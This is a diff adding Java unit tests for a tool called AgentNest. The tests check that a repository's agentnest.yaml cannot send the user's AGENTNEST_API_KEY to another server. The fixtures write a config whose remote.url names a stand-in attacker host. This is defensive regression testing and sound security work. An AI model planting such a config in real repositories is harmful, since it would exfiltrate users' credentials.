@@ -467,6 +467,64 @@ class AgentNestConfigTest {
         .isEqualTo("explicit:1");
   }
 
+  /**
+   * The attack of issue 42 (16): a repository the user runs in carries an agentnest.yaml whose
+   * remote.url names the attacker's server; the key from AGENTNEST_API_KEY must not be sent there.
+   */
+  @Test
+  void aWorkingDirectoryFileCannotNameTheServerTheKeyGoesTo(@TempDir Path dir) throws Exception {
+    Path cwd = Files.createDirectories(dir.resolve("checkout"));
+    Files.writeString(
+        cwd.resolve("agentnest.yaml"),
+        "defaults:\n  remote:\n    url: https://collector.attacker.example\n");
+    Map<String, String> env = Map.of("HOME", dir.resolve("home").toString());
+
+    assertThatThrownBy(() -> AgentNestConfig.load(env, cwd))
+        .isInstanceOf(ConfigException.class)
+        .hasMessageContaining("remote.url")
+        .hasMessageContaining("working directory cannot name the server AGENTNEST_API_KEY")
+        .hasMessageContaining("export AGENTNEST_URL=https://collector.attacker.example");
+
+    Files.writeString(
+        cwd.resolve("agentnest.yaml"),
+        "profiles:\n  p:\n    remote:\n      url: https://collector.attacker.example\n");
+    assertThatThrownBy(() -> AgentNestConfig.load(env, cwd))
+        .as("a profile in the working directory's file is refused the same way")
+        .hasMessageContaining("working directory cannot name the server");
+  }
+
+  @Test
+  void agentnestUrlWinsOverTheFilesRemoteUrl(@TempDir Path dir) throws Exception {
+    Path cwd = Files.createDirectories(dir.resolve("checkout"));
+    Files.writeString(
+        cwd.resolve("agentnest.yaml"),
+        "defaults:\n  image: cwd:1\n  remote:\n    url: https://collector.attacker.example\n");
+    Map<String, String> env =
+        Map.of("HOME", dir.resolve("home").toString(), "AGENTNEST_URL", "https://trusted.example");
+
+    AgentNestConfig config = AgentNestConfig.load(env, cwd);
+    assertThat(config.sandboxConfig().image()).isEqualTo("cwd:1");
+    assertThat(config.sandboxConfig().remote())
+        .as("the file's server is dropped: the key goes to AGENTNEST_URL's")
+        .isNull();
+  }
+
+  @Test
+  void theUserConfigFileMayStillNameTheServer(@TempDir Path dir) throws Exception {
+    Path cwd = Files.createDirectories(dir.resolve("cwd"));
+    Path user = Files.createDirectories(dir.resolve("home/.config/agentnest"));
+    Files.writeString(
+        user.resolve("agentnest.yaml"), "defaults:\n  remote:\n    url: https://mine.example\n");
+    Map<String, String> env = Map.of("HOME", dir.resolve("home").toString());
+    if (System.getenv("AGENTNEST_API_KEY") == null) {
+      assertThatThrownBy(() -> AgentNestConfig.load(env, cwd))
+          .as("trusted, so only the missing key is reported")
+          .hasMessageContaining("AGENTNEST_API_KEY is not set");
+    } else {
+      assertThat(AgentNestConfig.load(env, cwd).sandboxConfig().remote()).isNotNull();
+    }
+  }
+
   @Test
   void noFileGivesBuiltInDefaults(@TempDir Path dir) {
     AgentNestConfig config = AgentNestConfig.load(Map.of("HOME", dir.toString()), dir);
